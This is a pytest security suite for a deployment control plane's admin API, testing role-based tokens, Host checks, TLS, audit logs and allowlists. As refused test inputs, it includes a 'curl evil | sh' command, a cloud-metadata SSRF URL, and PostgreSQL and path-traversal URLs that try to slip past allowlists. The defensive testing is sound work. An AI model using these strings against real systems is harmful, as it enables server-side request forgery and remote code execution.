"""Security of the admin API: tokens and roles (401/403 per route and role), Content-Type (415),
Host (421), TLS, allowlists for what deployments may run or call (400), the actor in the
history and the audit log, the generated token, and secrets kept out of responses and logs."""

from __future__ import annotations

import contextlib
import datetime
import json
import logging
import os
import ssl
import stat
import subprocess
import sys
from pathlib import Path
from typing import Any, AsyncIterator

import aiohttp
import pytest
import yaml
from aiohttp.test_utils import TestClient, TestServer

from controlplane.admin.api import ROUTES, build_admin_app
from controlplane.admin.auth import OPEN, ROUTE_ROLES, Authenticator, Role
from controlplane.admin.policy import command_allowed, url_allowed
from controlplane.app import ControlPlane
from controlplane.config import LOOPBACK_RULES, Allowlists, Settings, TokenSpec, parse_settings
from controlplane.deploy.smoke import SMOKE_BASE_ENV, _command
from controlplane.errors import ConfigError
from controlplane.serve import ServeOptions, check_options, ensure_token_file, running
from controlplane.store.sqlite import open_sqlite_store
from tests.harness import REPO_ROOT, run_control_plane

TOKENS = {
    "viewer": TokenSpec("dash", "viewer-token-0123456789abcdef", "viewer"),
    "operator": TokenSpec("ci", "operator-token-0123456789abcdef", "operator"),
    "admin": TokenSpec("oncall", "admin-token-0123456789abcdef", "admin"),
}
DB_PASSWORD = "db-password-Zq9"


def auth(role: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {TOKENS[role].token}"}


@contextlib.asynccontextmanager
async def secured(tmp_path: Path, allow: Allowlists = Allowlists(), hosts: tuple[str, ...] = ()) -> AsyncIterator[tuple[ControlPlane, TestClient]]:
    cp = ControlPlane(Settings(allow=allow), await open_sqlite_store(tmp_path / "state.db"))
    try:
        await cp.start("127.0.0.1:0")
        client = TestClient(TestServer(build_admin_app(cp, Authenticator.of(TOKENS.values()), hosts=hosts)))
        await client.start_server()
        try:
            yield cp, client
        finally:
            await client.close()
    finally:
        await cp.stop(grace=0.1)


async def call(client: TestClient, method: str, path: str, body: Any = None, *, role: str | None = "admin",
               headers: dict[str, str] | None = None) -> tuple[int, Any]:
    hdrs = {**(auth(role) if role else {}), **(headers or {})}
    async with client.request(method, path, json=body, headers=hdrs) as response:
        if response.content_type == "text/event-stream":
            return response.status, None  # the live feed never ends: its status is the answer
        text = await response.text()
        return response.status, json.loads(text) if response.content_type == "application/json" else text


async def seed(client: TestClient) -> None:
    assert (await call(client, "PUT", "/v1/services/shop", {}))[0] == 200
    status, _ = await call(client, "PUT", "/v1/services/shop/environments/blue", {"version": "v1", "endpoints": ["127.0.0.1:9001"]})
    assert status == 200


async def snapshot(client: TestClient) -> Any:
    return (await call(client, "GET", "/v1/services"))[1]["services"], (await call(client, "GET", "/v1/services/shop/deployments"))[1]


def concrete(path: str) -> str:
    return path.replace("{name}", "shop").replace("{env}", "green").replace("{id}", "shop-1")


# ---------------------------------------------------------------------------------------------
# The route table


def test_every_route_has_exactly_one_rule() -> None:
    routes = {(method, path) for method, path, _ in ROUTES}
    assert routes == set(ROUTE_ROLES), f"without a rule: {routes - set(ROUTE_ROLES)}; rules for no route: {set(ROUTE_ROLES) - routes}"
    open_probes = [("GET", "/healthz"), ("GET", "/readyz"), ("GET", "/ui"), ("GET", "/ui/{file}")]
    assert [k for k, v in ROUTE_ROLES.items() if v is OPEN] == open_probes
    assert all(ROUTE_ROLES[k] is Role.VIEWER for k in routes if k[0] == "GET" and k not in open_probes)


RULES = [(method, path, rule) for (method, path), rule in ROUTE_ROLES.items() if rule is not OPEN]


@pytest.mark.parametrize("method, path, rule", RULES, ids=[f"{m} {p}" for m, p, _ in RULES])
async def test_401_and_403_per_role_and_route(tmp_path: Path, method: str, path: str, rule: Role) -> None:
    async with secured(tmp_path) as (cp, client):
        await seed(client)
        before = await snapshot(client)
        body = {} if method != "GET" else None
        for headers in ({}, {"Authorization": "Bearer not-a-token-0123456789abcdef"}, {"Authorization": f"Basic {TOKENS['admin'].token}"},
                        {"Authorization": TOKENS["admin"].token}, {"Authorization": f"Bearer {TOKENS['admin'].token}x"}):
            status, reply = await call(client, method, concrete(path), body, role=None, headers=headers)
            assert status == 401, (headers, status, reply)
            assert "bearer token" in reply["error"]
        for role in ("viewer", "operator", "admin"):
            status, reply = await call(client, method, concrete(path), body, role=role)
            if Role[role.upper()] < rule:
                assert status == 403, (role, status, reply)
                assert f"needs role {rule.label}" in reply["error"] and f"has role {role}" in reply["error"]
                assert await snapshot(client) == before, "a refused request changed the state"
            else:
                assert status not in (401, 403), (role, status, reply)


async def test_healthz_is_open_and_unknown_paths_need_a_token(tmp_path: Path) -> None:
    async with secured(tmp_path) as (cp, client):
        assert (await call(client, "GET", "/healthz", role=None))[0] == 200
        assert (await call(client, "GET", "/readyz", role=None))[0] == 200
        assert (await call(client, "GET", "/v1/nothing", role=None))[0] == 401
        assert (await call(client, "GET", "/v1/nothing", role="viewer"))[0] == 404


async def test_a_route_without_a_rule_is_denied(tmp_path: Path) -> None:
    async def extra(request: Any) -> Any:
        raise AssertionError("must not run")

    cp = ControlPlane(Settings(), await open_sqlite_store(tmp_path / "state.db"))
    app = build_admin_app(cp, Authenticator.of(TOKENS.values()))
    app.router.add_post("/v1/extra", extra)  # a route added without a line in ROUTE_ROLES
    async with TestClient(TestServer(app)) as client:
        status, reply = await call(client, "POST", "/v1/extra", {}, role="admin")
    assert status == 403 and "no access rule" in reply["error"], reply


# ---------------------------------------------------------------------------------------------
# Request hygiene


async def test_bodies_must_be_json(tmp_path: Path) -> None:
    async with secured(tmp_path) as (cp, client):
        await seed(client)
        before = await snapshot(client)
        for content_type, data in (("application/x-www-form-urlencoded", b"weights=1"), ("text/plain", b'{"weights": {"blue": 0, "green": 100}}'),
                                   ("multipart/form-data; boundary=x", b"--x--")):
            async with client.put("/v1/services/shop/traffic", data=data, headers={**auth("admin"), "Content-Type": content_type}) as r:
                assert r.status == 415, await r.text()
                assert "Content-Type must be application/json" in (await r.json())["error"]
        assert await snapshot(client) == before
        # JSON with a charset is fine; a body-less POST needs no Content-Type.
        async with client.put("/v1/services/shop/traffic", data=b'{"weights": {"blue": 100, "green": 0}}',
                              headers={**auth("admin"), "Content-Type": "application/json; charset=utf-8"}) as r:
            assert r.status == 200, await r.text()
        async with client.post("/v1/services/shop/rollback", headers=auth("operator")) as r:
            assert r.status in (200, 409), await r.text()


@pytest.mark.parametrize("host, allowed", [
    ("evil.example", False), ("bluegreen.attacker.test:80", False), ("localhost", True), ("localhost:18001", True),
    ("127.0.0.1:18001", True), ("[::1]:18001", True), ("10.2.3.4", True), ("admin.internal", True), ("ADMIN.internal:443", True),
])
async def test_host_header_must_name_this_server(tmp_path: Path, host: str, allowed: bool) -> None:
    """DNS rebinding: a page on evil.example whose name now resolves to 127.0.0.1 sends Host: evil.example."""
    async with secured(tmp_path, hosts=("admin.internal",)) as (cp, client):
        status, reply = await call(client, "GET", "/v1/services", role="admin", headers={"Host": host})
        if allowed:
            assert status == 200, reply
        else:
            assert status == 421 and host.split(":")[0] in reply["error"] and "admin.hosts" in reply["error"], reply


# ---------------------------------------------------------------------------------------------
# Allowlists


def test_url_rules() -> None:
    loopback = LOOPBACK_RULES
    assert url_allowed("http://127.0.0.1:9000/hook", loopback) and url_allowed("http://[::1]/x", loopback)
    assert url_allowed("http://localhost:8080/x", loopback)
    assert not url_allowed("http://10.0.0.1/x", loopback) and not url_allowed("http://localhost.evil.test/x", loopback)
    assert not url_allowed("http://127.0.0.1.nip.io/x", loopback)  # a name is never an IP rule
    prefix = ("https://hooks.example.com/bluegreen/",)
    assert url_allowed("https://hooks.example.com/bluegreen/done", prefix)
    assert not url_allowed("https://hooks.example.com/other", prefix)
    assert not url_allowed("https://hooks.example.com.evil.test/bluegreen/x", prefix)
    assert not url_allowed("http://hooks.example.com/bluegreen/x", prefix)  # scheme differs
    assert not url_allowed("https://hooks.example.com:8443/bluegreen/x", prefix)
    assert url_allowed("https://a.svc.example.com/x", ("*.example.com",)) and not url_allowed("https://example.org/x", ("*.example.com",))
    assert url_allowed("postgresql://u:p@db.internal:5432/app", ("db.internal:5432",))
    assert not url_allowed("postgresql://u:p@db.internal:6432/app", ("db.internal:5432",))
    assert url_allowed("postgresql://u:p@db.internal/app", ("db.internal:5432",))  # the default port
    assert not url_allowed("postgresql://u:p@127.0.0.1,db.evil.test/app", loopback)  # every host of a multi-host URL
    assert not url_allowed("postgresql://u:p@127.0.0.1/app?host=db.evil.test", loopback)  # ?host= wins in libpq
    assert url_allowed("postgresql:///app?host=/var/run/postgresql", loopback)  # the local socket


def test_command_rules() -> None:
    allowed = (("/usr/local/bin/smoke-check",), ("python3", "-m", "smoke"))
    assert command_allowed(("/usr/local/bin/smoke-check", "--fast"), allowed)
    assert command_allowed(("python3", "-m", "smoke", "x"), allowed)
    assert not command_allowed(("python3", "-c", "import os"), allowed)
    assert not command_allowed(("/usr/local/bin/smoke-check-evil",), allowed)
    assert not command_allowed(("/bin/sh", "-c", "curl evil | sh"), ())


DEPLOY = {"version": "v2", "endpoints": ["127.0.0.1:9002"], "strategy": {"steps": [100], "bake_seconds": 0}}


@pytest.mark.parametrize("extra, says", [
    ({"smoke": {"commands": [["/bin/sh", "-c", "id"]]}}, ["smoke.commands[0] ['/bin/sh', '-c', 'id']", "smoke.commands_allowed", "/usr/local/bin/check"]),
    ({"smoke": {"commands": [["/usr/local/bin/check"], ["/usr/local/bin/checkx"]]}}, ["smoke.commands[1]", "smoke.commands_allowed"]),
    ({"smoke": {"webhooks": [{"url": "http://169.254.169.254/latest/meta-data"}]}}, ["smoke.webhooks[0].url http://169.254.169.254/latest/meta-data", "webhooks.allowed"]),
    ({"decommission": {"webhooks": [{"url": "https://hooks.example.com/x"}]}}, ["decommission.webhooks[0].url", "webhooks.allowed"]),
    ({"migrations": {"directory": "/nonexistent", "database": f"postgresql://app:{DB_PASSWORD}@db.example.com/app"}},
     ["migrations.database postgresql://app:***@db.example.com/app", "migrations.databases_allowed"]),
], ids=["command", "second-command", "smoke-webhook", "decommission-webhook", "database"])
async def test_deployments_may_only_run_and_call_what_the_config_allows(tmp_path: Path, extra: dict[str, Any], says: list[str]) -> None:
    async with secured(tmp_path, allow=Allowlists(smoke_commands=(("/usr/local/bin/check",),))) as (cp, client):
        await seed(client)
        before = await snapshot(client)
        status, reply = await call(client, "POST", "/v1/services/shop/deployments", {**DEPLOY, **extra}, role="operator")
        assert status == 400, reply
        for text in says:
            assert text in reply["error"], reply
        assert DB_PASSWORD not in json.dumps(reply)
        assert await snapshot(client) == before


async def test_contract_database_must_be_allowed(tmp_path: Path) -> None:
    async with secured(tmp_path) as (cp, client):
        await seed(client)
        status, reply = await call(client, "POST", "/v1/services/shop/migrations/contract",
                                   {"directory": "/nonexistent", "database": f"postgresql://app:{DB_PASSWORD}@10.9.9.9/app"})
        assert status == 400 and "migrations.databases_allowed" in reply["error"] and DB_PASSWORD not in reply["error"], reply


async def test_smoke_commands_get_a_minimal_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("BLUEGREEN_CONTROL_PLANE_SECRET", "leak-me")
    problem = await _command(("/bin/sh", "-c", "env | sort | tr '\\n' ' '; exit 1"), {"BLUEGREEN_SERVICE": "shop"}, 10)
    assert problem is not None
    assert "leak-me" not in problem and "BLUEGREEN_CONTROL_PLANE_SECRET" not in problem
    assert f"PATH={SMOKE_BASE_ENV['PATH']}" in problem and "LANG=C.UTF-8" in problem and "BLUEGREEN_SERVICE=shop" in problem


# ---------------------------------------------------------------------------------------------
# Actor and audit log


async def test_history_and_log_name_the_token(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.INFO, logger="bluegreen.audit")
    async with secured(tmp_path) as (cp, client):
        await seed(client)
        status, created = await call(client, "POST", "/v1/services/shop/deployments",
                                     {**DEPLOY, "strategy": {"steps": [10, 100], "step_seconds": 600}}, role="operator")
        assert status == 202, created
        assert created["deployment"]["history"][0]["actor"] == "token:ci"
        status, view = await call(client, "POST", f"/v1/deployments/{created['id']}/abort", role="admin")
        assert status == 200, view
        assert view["history"][-1]["actor"] == "token:oncall", view["history"]
        status, _ = await call(client, "PUT", "/v1/services/shop/traffic", {"weights": {"blue": 1}}, role="operator")
        assert status == 400
    audit = [r.getMessage() for r in caplog.records if r.name == "bluegreen.audit"]
    assert "audit: PUT /v1/services/shop/traffic by token:ci -> 400" in audit  # refused calls too
    assert "audit: POST /v1/services/shop/deployments by token:ci -> 202" in audit
    assert "audit: PUT /v1/services/shop by token:oncall -> 200" in audit
    assert f"audit: POST /v1/deployments/{created['id']}/abort by token:oncall -> 200" in audit
    assert all(t.token not in caplog.text for t in TOKENS.values())


# ---------------------------------------------------------------------------------------------
# Config


def test_config_tokens_and_roles(tmp_path: Path) -> None:
    token_file = tmp_path / "ci.token"
    token_file.write_text(TOKENS["operator"].token + "\n")
    token_file.chmod(0o600)
    settings = parse_settings({"admin": {"tokens": [{"name": "ci", "token_file": str(token_file), "role": "operator"},
                                                    {"name": "dash", "token": TOKENS["viewer"].token, "role": "viewer"}],
                                         "hosts": ["bluegreen.internal"]},
                               "smoke": {"commands_allowed": ["/usr/local/bin/check", ["python3", "-m", "smoke"]]},
                               "webhooks": {"allowed": ["https://hooks.example.com/x/"]},
                               "migrations": {"databases_allowed": ["db.internal:5432", "10.0.0.0/8"]}})
    assert [(t.name, t.token, t.role) for t in settings.tokens()] == [("ci", TOKENS["operator"].token, "operator"),
                                                                      ("dash", TOKENS["viewer"].token, "viewer")]
    assert settings.admin.hosts == ("bluegreen.internal",)
    assert settings.allow == Allowlists((("/usr/local/bin/check",), ("python3", "-m", "smoke")), ("https://hooks.example.com/x/",),
                                        ("db.internal:5432", "10.0.0.0/8"))
    assert TOKENS["operator"].token not in repr(settings)
    # The old single-token form is one admin token named "admin".
    legacy = parse_settings({"admin": {"token": TOKENS["admin"].token}})
    assert [(t.name, t.role) for t in legacy.tokens()] == [("admin", "admin")]
    assert parse_settings({}).allow == Allowlists((), LOOPBACK_RULES, LOOPBACK_RULES)


@pytest.mark.parametrize("raw, says", [
    ({"admin": {"tokens": [{"name": "ci", "token": "abcdefghijklmnopq", "role": "root"}]}}, "admin.tokens[0].role: expected one of viewer, operator, admin"),
    ({"admin": {"tokens": [{"name": "ci", "token": "short-secret", "role": "viewer"}]}}, "admin.tokens[0] token: expected a string of at least 16"),
    ({"admin": {"tokens": [{"name": "ci", "role": "viewer"}]}}, "admin.tokens[0]: give token or token_file"),
    ({"admin": {"tokens": [{"name": "a b", "token": "abcdefghijklmnopq", "role": "viewer"}]}}, "admin.tokens[0].name"),
    ({"admin": {"tokens": [{"name": "x", "token": "abcdefghijklmnopq", "role": "viewer"},
                           {"name": "x", "token": "abcdefghijklmnopqr", "role": "admin"}]}}, "names must be unique"),
    ({"admin": {"tokens": [{"name": "x", "token": "abcdefghijklmnopq", "role": "viewer"},
                           {"name": "y", "token": "abcdefghijklmnopq", "role": "admin"}]}}, "two tokens have the same value"),
    ({"admin": {"tls": {"cert": "/nonexistent.pem", "key": "/nonexistent.key"}}}, "admin.tls.cert"),
    ({"smoke": {"commands_allowed": [[]]}}, "smoke.commands_allowed[0]"),
    ({"smoke": {"commands": []}}, "smoke: unknown key(s) commands"),
    ({"webhooks": {"allowed": ["https:///x"]}}, "webhooks.allowed[0]"),
    ({"migrations": {"databases_allowed": "db"}}, "migrations.databases_allowed: expected a list"),
])
def test_config_errors_name_the_key_and_never_the_token(raw: dict[str, Any], says: str) -> None:
    with pytest.raises(ConfigError) as info:
        parse_settings(raw)
    assert says in str(info.value)
    assert "abcdefghijklmnop" not in str(info.value) and "short-secret" not in str(info.value)


# ---------------------------------------------------------------------------------------------
# serve: the generated token, TLS, and what never leaks


def test_generated_token_is_private_and_reused(tmp_path: Path) -> None:
    path = tmp_path / "bluegreen.db.token"
    token = ensure_token_file(path)
    assert len(token) >= 40 and stat.S_IMODE(path.stat().st_mode) == 0o600
    assert ensure_token_file(path) == token
    assert [p.name for p in tmp_path.iterdir()] == ["bluegreen.db.token"]  # no temporary file left


def test_a_temporary_file_left_by_a_killed_start_does_not_stop_the_next(tmp_path: Path) -> None:
    path = tmp_path / "bluegreen.db.token"
    (tmp_path / f".bluegreen.db.token.{os.getpid()}.tmp").write_text("half")  # as a SIGKILLed start leaves it
    assert len(ensure_token_file(path)) >= 40


def test_binding_beyond_loopback_needs_configured_tokens(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="only a generated token"):
        check_options(ServeOptions(Settings(), tmp_path / "s.db", admin="0.0.0.0:0"))
    configured = Settings(admin=parse_settings({"admin": {"tokens": [dict(vars(TOKENS["operator"]))]}}).admin)
    assert check_options(ServeOptions(configured, tmp_path / "s.db", admin="0.0.0.0:0")) == ("0.0.0.0", 0)


async def test_serve_always_authenticates(tmp_path: Path) -> None:
    options = ServeOptions(Settings(), tmp_path / "state.db", xds="127.0.0.1:0", admin="127.0.0.1:0")
    async with running(options) as (cp, port), aiohttp.ClientSession() as session:
        async with session.get(f"http://127.0.0.1:{port}/v1/services") as response:
            assert response.status == 401
        token = (tmp_path / "state.db.token").read_text().strip()
        async with session.get(f"http://127.0.0.1:{port}/v1/services", headers={"Authorization": f"Bearer {token}"}) as response:
            assert response.status == 200


def bluegreen(*args: str, cwd: Path, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    base = {k: v for k, v in os.environ.items() if not k.startswith("BLUEGREEN_")}
    base["PYTHONPATH"] = str(REPO_ROOT)
    return subprocess.run([sys.executable, "-m", "controlplane", *args], capture_output=True, text=True, timeout=60,
                          cwd=cwd, env={**base, **(env or {})})


async def test_generated_token_the_cli_finds_it_and_secrets_stay_out_of_logs(tmp_path: Path) -> None:
    async with run_control_plane(state_path=tmp_path / "bluegreen.db", log_dir=tmp_path / "logs") as cp:
        token_file = tmp_path / "bluegreen.db.token"
        token = token_file.read_text().strip()
        assert stat.S_IMODE(token_file.stat().st_mode) == 0o600
        await cp.process.expect_log(f"admin API token: {token_file}")
        admin = ["--admin", cp.admin_url]
        # Resolution order: --token, $BLUEGREEN_TOKEN, --token-file, $BLUEGREEN_TOKEN_FILE, ./bluegreen.db.token.
        elsewhere = tmp_path / "elsewhere"
        elsewhere.mkdir()
        assert bluegreen("status", *admin, cwd=elsewhere).returncode == 1  # no token found: 401
        assert "401" in bluegreen("status", *admin, cwd=elsewhere).stderr
        assert bluegreen("status", *admin, cwd=tmp_path).returncode == 0  # ./bluegreen.db.token
        assert bluegreen("status", *admin, "--token", token, cwd=elsewhere).returncode == 0
        assert bluegreen("status", *admin, cwd=elsewhere, env={"BLUEGREEN_TOKEN": token}).returncode == 0
        assert bluegreen("status", *admin, "--token-file", str(token_file), cwd=elsewhere).returncode == 0
        assert bluegreen("status", *admin, cwd=elsewhere, env={"BLUEGREEN_TOKEN_FILE": str(token_file)}).returncode == 0
        assert bluegreen("status", *admin, "--token", "wrong-token-0123456789", cwd=tmp_path).returncode == 1  # --token wins
        missing = bluegreen("status", *admin, "--token-file", str(elsewhere / "none"), cwd=elsewhere)
        assert missing.returncode == 2 and "does not exist" in missing.stderr
        # A mutation through the CLI (body-less POST and JSON PUT), then refused secrets.
        assert bluegreen("traffic", "nosuch", "--green", "10", *admin, cwd=tmp_path).returncode == 1
        async with cp.session() as session:
            async with session.put(cp.admin_url + "/v1/services/shop", json={}) as r:
                assert r.status == 200
            async with session.post(cp.admin_url + "/v1/services/shop/deployments", json={
                    **DEPLOY, "migrations": {"directory": "/x", "database": f"postgresql://app:{DB_PASSWORD}@db.example.com/app"}}) as r:
                body = await r.text()
                assert r.status == 400 and DB_PASSWORD not in body and token not in body
        await cp.process.stop()
        log = cp.log_text()
        assert "audit: PUT /v1/services/shop by token:admin -> 200" in log
        assert token not in log and DB_PASSWORD not in log


def _self_signed(tmp_path: Path) -> tuple[Path, Path]:
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID
    import ipaddress

    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "bluegreen test")])
    now = datetime.datetime.now(datetime.timezone.utc)
    cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
            .serial_number(x509.random_serial_number()).not_valid_before(now - datetime.timedelta(minutes=5))
            .not_valid_after(now + datetime.timedelta(days=1))
            .add_extension(x509.SubjectAlternativeName([x509.IPAddress(ipaddress.ip_address("127.0.0.1")), x509.DNSName("localhost")]), critical=False)
            .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
            .sign(key, hashes.SHA256()))
    cert_path, key_path = tmp_path / "admin.crt", tmp_path / "admin.key"
    cert_path.write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    key_path.write_bytes(key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()))
    key_path.chmod(0o600)
    return cert_path, key_path


async def test_admin_api_over_tls(tmp_path: Path) -> None:
    cert, key = _self_signed(tmp_path)
    config = tmp_path / "config.yaml"
    config.write_text(yaml.safe_dump({"admin": {"tls": {"cert": str(cert), "key": str(key)}}}))
    async with run_control_plane(state_path=tmp_path / "bluegreen.db", config_path=config, log_dir=tmp_path / "logs") as cp:
        url = cp.admin_url.replace("http://", "https://")
        context = ssl.create_default_context(cafile=str(cert))
        async with aiohttp.ClientSession(headers=cp.headers) as session:
            async with session.get(url + "/v1/services", ssl=context) as r:
                assert r.status == 200
        ok = bluegreen("status", "--admin", url, "--cacert", str(cert), cwd=tmp_path)
        assert ok.returncode == 0, ok.stderr
        assert bluegreen("status", "--admin", url, cwd=tmp_path, env={"BLUEGREEN_CACERT": str(cert)}).returncode == 0
        unverified = bluegreen("status", "--admin", url, cwd=tmp_path)
        assert unverified.returncode == 4 and "CERTIFICATE_VERIFY_FAILED" in unverified.stderr


# The allowlist checks what the client will actually reach (found by a security review):
# query parameters that redirect a PostgreSQL connection, percent-encoded hosts, several hosts,
# and path tricks a client normalises away.
URL_BYPASSES = [
    ("postgres://db.internal/app?host=evil.com", ("postgres://db.internal/app",)),
    ("postgres://db.internal/app?hostaddr=6.6.6.6", ("postgres://db.internal/app",)),
    ("postgres://db.internal:5432,evil.com/app", ("postgres://db.internal/app",)),
    ("postgres://%2Ftmp%2Fx.internal/app", ("*.internal",)),
    ("postgres://db.internal/app?host=db.internal&port=6666", ("db.internal:5432",)),
    ("http://hooks.internal/bluegreen/../admin", ("http://hooks.internal/bluegreen/",)),
    ("http://hooks.internal/bluegreen/%2e%2e/admin", ("http://hooks.internal/bluegreen/",)),
    ("http://hooks.internal/bluegreen%2f..%2fadmin", ("http://hooks.internal/bluegreen",)),
]


@pytest.mark.parametrize("url, rules", URL_BYPASSES)
def test_allowlist_bypasses_are_refused(url: str, rules: tuple[str, ...]) -> None:
    from controlplane.admin.policy import url_allowed

    assert not url_allowed(url, rules)


@pytest.mark.parametrize("url, rules", [
    ("postgres://db.internal/app", ("postgres://db.internal/app",)),
    ("postgres://u:secret@db.internal:5432/app", ("postgres://db.internal/",)),
    ("postgres://db.internal/app", ("db.internal:5432",)),
    ("postgresql:///app", ("localhost",)),
    ("http://hooks.internal/bluegreen/deploys", ("http://hooks.internal/bluegreen/",)),
])
def test_allowlist_still_admits_what_its_rules_name(url: str, rules: tuple[str, ...]) -> None:
    from controlplane.admin.policy import url_allowed

    assert url_allowed(url, rules)
